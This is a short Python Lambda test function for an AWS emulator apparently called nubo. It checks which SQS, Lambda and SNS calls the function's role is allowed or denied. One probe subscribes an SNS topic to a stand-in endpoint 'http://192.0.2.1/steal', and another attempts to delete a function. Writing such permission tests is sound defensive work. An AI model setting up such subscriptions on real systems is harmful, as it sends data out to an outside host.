"""A test function that calls nubo's API with boto3 and the credentials
Lambda gives every function (its role's), as rolefn does in Go."""

import os

import boto3
from botocore.exceptions import ClientError


def outcome(call):
    try:
        call()
        return "ok"
    except ClientError as e:
        return e.response["Error"]["Code"]


def handler(event, context):
    # boto3 reads the role's credentials from the environment; before 1.28
    # it does not read AWS_ENDPOINT_URL, so it is passed on.
    endpoint = os.environ["AWS_ENDPOINT_URL"]
    sqs, fn, sns = (boto3.client(s, endpoint_url=endpoint) for s in ("sqs", "lambda", "sns"))
    return {
        "send": outcome(lambda: sqs.send_message(QueueUrl=event["Queue"], MessageBody="from python")),
        "receive": outcome(lambda: sqs.receive_message(QueueUrl=event["Queue"])),
        "other": outcome(lambda: sqs.send_message(QueueUrl=event["Other"], MessageBody="from python")),
        "config": outcome(lambda: fn.get_function_configuration(FunctionName=event["Function"])),
        "delete": outcome(lambda: fn.delete_function(FunctionName=event["Function"])),
        "subscribe": outcome(lambda: sns.subscribe(TopicArn=event["Topic"], Protocol="http", Endpoint="http://192.0.2.1/steal")),
    }
